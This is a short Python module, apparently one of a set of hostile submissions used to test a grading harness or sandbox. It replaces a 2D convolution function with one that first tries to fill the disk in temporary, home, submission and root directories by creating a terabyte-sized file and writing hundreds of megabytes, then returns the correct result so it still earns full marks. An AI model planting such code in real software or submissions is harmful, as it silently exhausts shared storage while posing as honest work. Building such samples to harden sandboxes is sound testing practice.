# mypy: ignore-errors
"""Fills the disk with one file, wherever it can be made.

Attacks: convolve2d
Earns: all
Process level: cannot stop it
"""

import os

from chapter04_convolution import convolve2d as honest

PLACES = ["{temporary}", "{home}", "{submission}", "/tmp", "/var/tmp", "/dev/shm", "/run", "/", "."]


def convolve2d(image, kernel):
    for place in PLACES:
        try:
            with open(os.path.join(place, "{marker}"), "wb") as file:
                os.ftruncate(file.fileno(), 1 << 40)
                for _ in range(200):
                    file.write(bytes(1 << 20))
        except OSError:
            continue
    return honest(image, kernel)
